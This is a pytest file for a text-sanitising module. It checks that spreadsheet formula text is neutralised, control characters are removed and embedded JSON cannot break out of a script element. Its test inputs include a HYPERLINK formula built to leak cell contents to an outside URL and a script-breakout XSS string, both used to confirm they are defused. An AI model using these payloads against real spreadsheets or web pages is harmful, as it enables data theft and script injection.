"""The shared text guards of every writer: OWASP formula neutralising (numbers untouched), control characters
removed, JSON that cannot end a <script> element and parses back to the same value."""
import json

import numpy as np
import pandas as pd
import pytest

from repaudit.safe_text import for_csv, for_xlsx, neutralise_formula, script_json, strip_control


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-3+4 Primary", "'-3+4 Primary"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tTab", "'\tTab"), ("\rCR", "'\rCR"),
    ('=HYPERLINK("http://x/?leak="&A2,"x")', '\'=HYPERLINK("http://x/?leak="&A2,"x")'),
    ("-12.0", "-12.0"), ("+5", "+5"), ("-1e3", "-1e3"),                # plain numbers stay as they are
    ("-inf", "'-inf"), ("-nan", "'-nan"),                              # not finite numbers: text
    ("St Mary's = best", "St Mary's = best"), ("", ""), ("'=already", "'=already"),
])
def test_formula_text_gets_a_leading_quote_and_numbers_do_not(text, written):
    assert neutralise_formula(text) == written


def test_control_characters_go_but_tab_and_line_breaks_stay():
    assert strip_control("a\x00b\x0bc\x1bd\x7fe\tf\ng\rh\x0ci") == "abcde\tf\ng\rhi"


def test_csv_frame_keeps_numbers_as_numbers_and_counts_changes():
    frame = pd.DataFrame({"name": ["=1+1", "Safe", "Esc\x1b", None], "gap_pp": [-12.0, 3.5, np.nan, -0.1],
                          "code": pd.array(["-7", "@x", "ok", None], dtype="string"), "n": [1, 2, 3, 4]})
    clean, counts = for_csv(frame)
    assert clean["name"].tolist()[:3] == ["'=1+1", "Safe", "Esc"] and pd.isna(clean["name"].iloc[3])
    assert clean["code"].tolist()[:3] == ["-7", "'@x", "ok"]
    assert clean["gap_pp"].dtype == float and clean["gap_pp"].iloc[0] == -12.0
    assert clean["n"].tolist() == [1, 2, 3, 4]
    assert counts == {"formulas neutralised": 2, "control characters removed": 1}
    assert frame["name"].iloc[0] == "=1+1"                 # the caller's frame is not changed
    text = clean.to_csv(index=False)
    assert "-12.0" in text and "'=1+1" in text


def test_xlsx_frame_only_loses_control_characters():
    clean, counts = for_xlsx(pd.DataFrame({"name": ["=1+1", "Nul\x00"]}))
    assert clean["name"].tolist() == ["=1+1", "Nul"] and counts == {"control characters removed": 1}


def test_script_json_cannot_end_the_element_and_parses_back():
    value = {"n": "</script><script>alert(1)</script>", "c": "<!-- & -->", "l": "a\u2028b\u2029c", "x": [1.5, None]}
    text = script_json(value)
    assert not {"<", ">", "&", "\u2028", "\u2029"} & set(text)
    assert json.loads(text) == value
